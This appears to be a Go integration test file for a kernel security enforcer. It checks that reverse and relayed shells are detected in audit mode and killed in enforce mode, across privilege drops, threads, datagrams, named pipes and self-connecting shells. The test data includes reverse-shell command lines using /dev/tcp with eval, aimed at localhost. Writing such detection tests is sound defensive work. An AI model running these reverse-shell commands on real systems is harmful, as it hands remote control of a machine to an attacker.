//go:build kernel

package microenforcer_test

import (
	"path/filepath"
	"testing"

	"github.com/limpet-security/limpet/internal/event/eventpb"
)

// relayUsers are who attacks: the cell's prefix, and what the attack runs behind.
var relayUsers = []struct {
	name          string
	mask, command []string
}{
	{"root", nil, nil},
	{"uid 1000", []string{"setpriv", "--reuid", "1000", "--regid", "1000", "--clear-groups"}, nil},
	{"drops to 1000", nil, []string{"/tmp/attack", "drop-to", "1000"}},
	{"drops to 1000 without SYS_PTRACE", []string{"setpriv", "--bounding-set", "-sys_ptrace", "--inh-caps", "-sys_ptrace"}, []string{"/tmp/attack", "drop-to", "1000"}},
}

func TestRelayedShells(t *testing.T) {
	for i, tt := range relayCases {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel() // most of the time is waiting
			c := newCell(t)
			u := relayUsers[i%len(relayUsers)]
			for _, mode := range []string{"audit", "enforce"} {
				attackOnce(t, tt.at(cellPeer, mode), mode, func(flags []string, command ...string) result {
					writePolicy(t, filepath.Join(c.dir, "p.yaml"), tt.at(cellPeer, mode).controls)
					as := &cell{dir: c.dir, mask: u.mask}
					r := as.run(t, append(flags, "--policy", "/tmp/p.yaml"), append(u.command, command...)...)
					for _, e := range r.of(tt.control) {
						if a := e.Attributes; a["peer"] == "" || a["relay"] != "/tmp/attack" || a["via"] == "" || e.GetFile().GetPath() != "/tmp/sh" {
							t.Errorf("attributes %v", a)
						}
						if e.Killed != (mode == "enforce") {
							t.Errorf("killed %v", e.Killed)
						}
					}
					return r
				})
			}
			if t.Failed() {
				t.Logf("as %s", u.name)
			}
		})
	}
}

// What the first thread of a relay does not show, because it has ended or shares
// its descriptors with nobody, its others do.
func TestRelaysBehindThreads(t *testing.T) {
	c, _ := newLoaderCell(t)
	for _, u := range relayUsers {
		for _, how := range []string{"exited", "table"} {
			for _, mode := range []string{"audit", "enforce"} {
				writePolicy(t, filepath.Join(c.dir, "p.yaml"), "    reverseShell: {mode: "+mode+", relayed: true}\n")
				as := &cell{dir: c.dir, mask: u.mask}
				r := as.run(t, []string{"--policy", "/tmp/p.yaml"}, append(u.command, "/tmp/attack", "child", "/tmp/novel", "behind", how, "carries", cellPeer, "80", "/tmp/sh")...)
				events := r.of("reverseShell")
				if r.has("shell-ran") != (mode == "audit") || len(events) == 0 {
					t.Errorf("%s, %s, %s: %s", u.name, how, mode, r.brief())
				}
				for _, e := range events {
					if e.Attributes["relay"] != "/tmp/novel" || e.Killed != (mode == "enforce") {
						t.Errorf("%s, %s, %s: %v", u.name, how, mode, e)
					}
				}
			}
		}
	}
}

// A shell needs no connection to be told what to do by datagrams.
func TestShellsOnDatagrams(t *testing.T) {
	c, _ := newLoaderCell(t)
	for i, how := range []string{"connected", "lite", "bound", "portless"} {
		u := relayUsers[i%len(relayUsers)]
		for _, mode := range []string{"audit", "enforce"} {
			writePolicy(t, filepath.Join(c.dir, "p.yaml"), "    reverseShell: {mode: "+mode+"}\n")
			as := &cell{dir: c.dir, mask: u.mask}
			r := as.run(t, []string{"--policy", "/tmp/p.yaml"}, append(u.command, "/tmp/attack", "child", "/tmp/novel", "commanded", how, "/tmp/sh")...)
			if r.has("shell-ran") != (mode == "audit") || len(r.of("reverseShell")) == 0 {
				t.Errorf("%s, %s: %s", how, mode, r.brief())
			}
		}
	}
}

// A shell that reads a file can go on with what it inherited, or with a named pipe.
func TestShellsThatAdopt(t *testing.T) {
	for _, how := range []string{"connection", "fifo"} {
		t.Run(how, func(t *testing.T) {
			t.Parallel()
			c, _ := newLoaderCell(t)
			for _, mode := range []string{"audit", "enforce"} {
				writePolicy(t, filepath.Join(c.dir, "p.yaml"), "    reverseShell: {mode: "+mode+", relayed: true}\n")
				r := c.run(t, []string{"--policy", "/tmp/p.yaml"}, "/tmp/attack", "child", "/tmp/novel", "adopts", how, "/usr/bin/bash")
				if r.has("shell-ran") != (mode == "audit") || len(r.of("reverseShell")) == 0 {
					t.Errorf("%s: %s", mode, r.brief())
				}
			}
		})
	}
}

func TestShellsThatAreNotRelayed(t *testing.T) {
	for _, tt := range relayAllowed {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := newCell(t)
			a := attackCase{controls: tt.controls, attack: tt.attack}.at(cellPeer, "enforce")
			writePolicy(t, filepath.Join(c.dir, "p.yaml"), a.controls)
			r := c.run(t, []string{"--policy", "/tmp/p.yaml"}, append([]string{"/tmp/attack", "child", "/tmp/attack"}, a.attack...)...)
			for _, e := range r.events {
				if e.Verdict != eventpb.Verdict_VERDICT_ALLOW {
					t.Error(e.Reason)
				}
			}
			if !r.has(tt.want) || t.Failed() {
				t.Error(r.brief())
			}
		})
	}
}

// A shell that connects by itself and then reads its commands from there is in
// somebody's hands, whatever it read from when it began.
func TestShellsThatConnect(t *testing.T) {
	for _, tt := range []struct {
		name, from string
		wanted     bool
	}{
		{"commands from the connection", "exec 0<>/dev/tcp/127.0.0.1/7006", true},
		{"a connection beside", "exec 3<>/dev/tcp/127.0.0.1/7006; read -t 9 -u 3 line; eval \"$line\"", false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := newCell(t)
			writeFile(t, filepath.Join(c.dir, "commands"), tt.from+"\n")
			for _, mode := range []string{"audit", "enforce"} {
				writePolicy(t, filepath.Join(c.dir, "p.yaml"), "    reverseShell: {mode: "+mode+", relayed: true}\n")
				r := c.run(t, []string{"--policy", "/tmp/p.yaml"}, "/tmp/attack", "child", "/tmp/attack", "commander", "/tmp/commands", "127.0.0.1:7006", "/usr/bin/bash")
				events := r.of("reverseShell")
				if r.has("shell-ran") == (tt.wanted && mode == "enforce") || (len(events) > 0) != tt.wanted {
					t.Errorf("%s: %s", mode, r.brief())
				}
				for _, e := range events {
					if e.Attributes["via"] != "connection of its own" || e.Attributes["peer"] != "127.0.0.1:7006" || e.Killed != (mode == "enforce") {
						t.Errorf("%s: %v", mode, e)
					}
				}
			}
		})
	}
}
